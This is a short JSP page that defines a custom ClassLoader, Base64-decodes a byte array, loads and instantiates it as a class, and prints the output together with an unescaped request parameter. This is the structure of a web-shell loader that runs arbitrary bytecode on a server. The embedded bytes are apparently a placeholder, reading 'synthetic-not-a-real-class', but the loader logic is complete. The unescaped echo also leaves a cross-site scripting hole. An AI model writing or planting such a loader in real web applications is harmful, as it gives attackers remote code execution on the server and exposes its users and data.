<%!
class Ld extends ClassLoader {
    Ld(ClassLoader p) { super(p); }
    Class<?> mk(byte[] b) { return super.defineClass(null, b, 0, b.length); }
}
%>
<%
byte[] b = java.util.Base64.getDecoder().decode("yv66vgAAADRzeW50aGV0aWMtbm90LWEtcmVhbC1jbGFzcw==");
Object o = new Ld(getClass().getClassLoader()).mk(b).newInstance();
out.print(o.toString() + request.getParameter("x"));
%>
